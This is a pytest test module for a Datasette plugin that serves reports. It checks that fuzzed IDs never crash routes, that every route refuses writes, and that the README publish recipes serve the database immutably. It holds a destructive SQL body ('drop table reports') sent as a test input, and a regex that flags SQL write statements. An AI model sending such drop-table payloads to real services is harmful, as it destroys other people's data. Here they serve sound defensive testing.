def test_fuzzed_path_ids_never_fail(served, hostile, kind, value, encode):
    ds, _ = served
    segment = tilde_encode(value) if encode == "tilde" else quote(value, safe="")
    path = {
        "report": f"/{DB}/-/gaireports/report/{segment}",
        "report.json": f"/{DB}/-/gaireports/report/{segment}.json",
        "report.csv": f"/{DB}/-/gaireports/report/{segment}.csv",
        "agency": f"/{DB}/-/gaireports/agency/{segment}",
        "instance report": f"/-/gaireports/report/{segment}",
    }[kind]
    r = get(ds, path)
    assert r.status_code < 500, (path, r.status_code, r.text[:300])
    if r.status_code == 200:
        assert value in known_ids(hostile[0], kind) or encode == "percent", (path, value)


# --- Read-only ----------------------------------------------------------------------------------

PLUGIN_ROUTES = (
    "/-/gaireports", "/-/gaireports/failing.json", "/-/gaireports/failing.csv", "/-/gaireports/report/x",
    "/-/gaireports/report/x.json", status_page(), f"{status_page()}/failing.json", f"{status_page()}/failing.csv",
    agency_page(FAILING_AGENCY_ID), agency_page(FAILING_AGENCY_ID) + ".json", agency_page(FAILING_AGENCY_ID) + ".csv",
    report_page(FAILING_ID), report_page(FAILING_ID, ".json"), report_page(FAILING_ID, ".csv"),
)
WRITE_WORDS = re.compile(
    r"\b(insert\s+(or\s+\w+\s+)?into|update\s+\S+\s+set|delete\s+from|drop\s+\w+|create\s+\w+|alter\s+table"
    r"|replace\s+into|attach\s+database|vacuum|execute_write\w*)\b",
    re.I,
)


def test_plugin_code_has_no_write_path():
    import datasette_gaireports.pages as pages
    import datasette_gaireports.plugin as plugin

    guard = pages.read_only(pages.status.instance_status).__code__
    for pattern, view in pages.ROUTES:  # every view sits behind read_only
        assert view.__code__ is guard and inspect.unwrap(view) is not view, pattern
    sources = [Path(plugin.__file__), *Path(pages.__file__).parent.glob("*.py")]
    for path in sources:
        text = path.read_text(encoding="utf-8")
        write = WRITE_WORDS.search(text)
        assert write is None, (path.name, write[0])


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_every_route_refuses_writes(served, method):
    ds, _ = served
    for path in PLUGIN_ROUTES:
        r = asyncio.run(ds.client.request(method, path, content=b"sql=drop+table+reports"))
        assert r.status_code == 405, (method, path, r.status_code)
        assert r.headers["allow"] == "GET, HEAD, OPTIONS"
        if path.endswith(".json"):
            assert r.json() == {"ok": False, "error": f"Method not allowed: {method}", "status": 405,
                                "title": "Method not allowed"}
        else:
            assert f"Method not allowed: {method}" in r.text and "Traceback" not in r.text
    # With a cookie, Datasette's CSRF protection answers POSTs first.
    for path in PLUGIN_ROUTES:
        r = asyncio.run(ds.client.post(path, cookies={"ds_actor": "x"}, content=b"x=1"))
        assert r.status_code in (403, 405), path


def test_head_and_options(served):
    ds, _ = served
    for path in PLUGIN_ROUTES:
        head = asyncio.run(ds.client.head(path))
        get_status = get(ds, path).status_code
        assert head.status_code == get_status, path
        options = asyncio.run(ds.client.options(path))
        assert options.status_code == 200 and options.headers["allow"] == "GET, HEAD, OPTIONS" and options.text == ""


# --- Publishing ---------------------------------------------------------------------------------


def readme_commands(tool: str) -> list[str]:
    """The README's ``datasette publish <tool>`` command in the Publishing section, as arguments."""
    text = README.read_text(encoding="utf-8")
    section = text.split("### Publishing", 1)[1].split("\n## ", 1)[0]
    commands = []
    for block in re.findall(r"```sh\n(.*?)```", section, re.S):
        for command in block.replace("\\\n", " ").splitlines():
            if command.startswith(f"datasette publish {tool} "):
                commands.append(command)
    assert len(commands) == 1, (tool, commands)
    return shlex.split(commands[0])[1:]


def serve_command(dockerfile: str) -> list[str]:
    (cmd,) = [line[len("CMD ") :] for line in dockerfile.splitlines() if line.startswith("CMD ")]
    return shlex.split(cmd)


def assert_serves_one_immutable_database(cmd: list[str]) -> None:
    assert cmd[:2] == ["datasette", "serve"]
    databases = [cmd[i + 1] for i, arg in enumerate(cmd) if arg in ("-i", "--immutable")]
    assert databases == ["gaireports.db"], cmd
    positional = [a for i, a in enumerate(cmd[2:], 2) if a.endswith(".db") and cmd[i - 1] not in ("-i", "--immutable")]
    assert positional == [], cmd  # a file given without -i would be served mutable
    assert "--create" not in cmd and "--crossdb" not in cmd
    assert ["--setting", "suggest_facets", "off"] in [cmd[i:i + 3] for i in range(len(cmd))], cmd
    ds = Datasette(immutables=databases)
    assert [n for n in ds.databases if n != "_internal"] == ["gaireports"]


@pytest.fixture
def publish_folder(hostile, tmp_path, monkeypatch) -> Path:
    shutil.copy(hostile[0], tmp_path / "gaireports.db")
    (tmp_path / "metadata.yml").write_text("title: gaireports\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_readme_cloudrun_recipe_serves_the_database_once_immutable(publish_folder):
    from click.testing import CliRunner
    from datasette.cli import cli

    args = readme_commands("cloudrun") + ["--show-files"]
    with (
        mock.patch("datasette.publish.common.shutil.which", return_value="/usr/bin/gcloud"),
        mock.patch("datasette.publish.cloudrun.check_output", return_value="project-x\n"),
        mock.patch("datasette.publish.cloudrun.check_call", return_value=0) as calls,
    ):
        result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert all(c.args[0].startswith("gcloud ") for c in calls.call_args_list)  # nothing was run
    dockerfile = result.output.split("==== Dockerfile ====", 1)[1].split("====", 1)[0]
    assert_serves_one_immutable_database(serve_command(dockerfile))
    assert re.search(r"RUN pip install -U .*\bdatasette-gaireports\b", dockerfile)
    assert re.search(r"RUN pip install -U .*\bdatasette==0\.65\.\d+", dockerfile)


def test_readme_fly_recipe_serves_the_database_once_immutable(publish_folder):
    from click.testing import CliRunner
    from datasette.cli import cli

    args = readme_commands("fly") + ["--generate-dir", str(publish_folder / "out")]
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    dockerfile = (publish_folder / "out" / "Dockerfile").read_text(encoding="utf-8")
    assert_serves_one_immutable_database(serve_command(dockerfile))
    assert re.search(r"RUN pip install -U .*\bdatasette==0\.65\.\d+", dockerfile)


# --- Last: nothing was written ------------------------------------------------------------------


def test_database_bytes_unchanged_after_the_module(served, hostile):
    """Runs last in this module: every request above left the served database as it was."""
    ds, recorder = served
    db, before = hostile
    assert recorder.writes == []
    assert sha256(db) == before
    for suffix in ("-wal", "-journal", "-shm"):
        assert not Path(str(db) + suffix).exists() or Path(str(db) + suffix).stat().st_size == 0
